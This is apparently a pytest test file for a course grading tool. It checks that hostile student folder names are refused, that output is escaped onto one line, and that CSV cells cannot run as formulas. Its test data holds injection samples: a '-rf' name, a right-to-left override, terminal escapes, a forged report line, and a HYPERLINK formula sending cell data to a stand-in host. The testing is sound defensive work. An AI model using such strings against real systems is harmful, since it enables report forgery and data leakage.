"""Student folder names are data: which are graded, why the others are refused, and how any name
(or any text a student controls) is printed as one line of the grading report."""

import pytest

from tinytorch_course.grading import report
from tinytorch_course.grading.names import MAX_NAME_CHARS, printable, refusal


@pytest.mark.parametrize(
    "name", ["aa-perfect", "s123", "Ana.Lopez", "ana_lopez+cs101@uni.edu", "7", "x" * MAX_NAME_CHARS]
)
def test_plain_names_are_graded(name):
    assert refusal(name) is None


@pytest.mark.parametrize(
    "name, reasons",
    [
        ("aa-perfec[t]", ["holds a glob character"]),
        ("*", ["holds a glob character"]),
        ("who?", ["holds a glob character"]),
        ("ana lopez", ["holds white space"]),
        ("ana\nlopez", ["holds white space", "holds a control or formatting character"]),
        ("ana\udcff", ["is not UTF-8"]),
        ("x" * (MAX_NAME_CHARS + 1), [f"is longer than {MAX_NAME_CHARS} characters"]),
        ("x" * 250, [f"is longer than {MAX_NAME_CHARS} characters"]),
        (".hidden", ["starts with a dot"]),
        ("-rf", ["is not an ASCII letter or digit"]),
        ("jos\u00e9", ["is not an ASCII letter or digit"]),
        ("ana\u202egnp.exe", ["holds a control or formatting character"]),
    ],
)
def test_other_names_are_refused_with_every_rule_they_break(name, reasons):
    why = refusal(name)
    assert why is not None and why.startswith("folder name refused: it ")
    assert why.count("; it ") == len(reasons) - 1, why
    for reason in reasons:
        assert reason in why, (name, why)
    assert "\n" not in why and why.isprintable()


@pytest.mark.parametrize(
    "text, shown",
    [
        ("aa-perfect", "aa-perfect"),
        ("a\nb\r\tc", "a\\nb\\r\\tc"),
        ("back\\slash", "back\\\\slash"),
        ("bytes\udcff\udc80", "bytes\\xff\\x80"),
        ("lone \ud800", "lone \\ud800"),
        ("\x1b[2Kwiped", "\\x1b[2Kwiped"),
        ("rtl \u202e and \u2028", "rtl \\u202e and \\u2028"),
        ("next line \x85 and byte \udc85", "next line \\u0085 and byte \\x85"),
        ("café ✓", "café ✓"),
    ],
)
def test_printable_is_one_line_of_text_that_says_what_was_there(text, shown):
    assert printable(text) == shown
    assert printable(text).encode("utf-8").decode("utf-8").splitlines() == [shown]


def test_the_report_of_any_name_and_reason_is_one_line_each(tmp_path):
    hostile = "evil\nz-perfect  100 / 100  graded\udcff"
    lines = [
        report.ReportLine(hostile, report.NOT_GRADED, None, None, refusal(hostile)),
        report.ReportLine("ana", report.GRADED, 90.0, 100.0, "kernel died: output 'x\ntinytorch-grading: \ud800'"),
    ]
    csv_path, txt_path = report.write_report(tmp_path, lines)
    assert txt_path.read_text(encoding="utf-8").count("\n") == 3
    assert csv_path.read_text(encoding="utf-8").count("\n") == 3
    rows = report.read_report(csv_path)
    assert list(rows) == ["evil\\nz-perfect  100 / 100  graded\\xff", "ana"]
    assert rows["ana"]["reason"] == "kernel died: output 'x\\ntinytorch-grading: \\ud800'"
    assert sorted(p.name for p in tmp_path.iterdir()) == [report.REPORT_CSV, report.REPORT_TXT], "no temporary left"


def test_no_name_is_a_formula_in_the_csv_report(tmp_path):
    """A refused folder name a spreadsheet would run as a formula is written as text ('-led)."""
    names = ['=HYPERLINK("http://example.invalid/?"&A1,"open")', "+1+1", "-2", "@SUM(A1)", "a=1"]
    lines = [report.ReportLine(name, report.NOT_GRADED, None, None, refusal(name) or "") for name in names]
    rows = report.read_report(report.write_report(tmp_path, lines)[0])
    assert list(rows) == ["'" + name for name in names[:4]] + ["a=1"]
    assert all(refusal(name) for name in names), "none of them is graded"
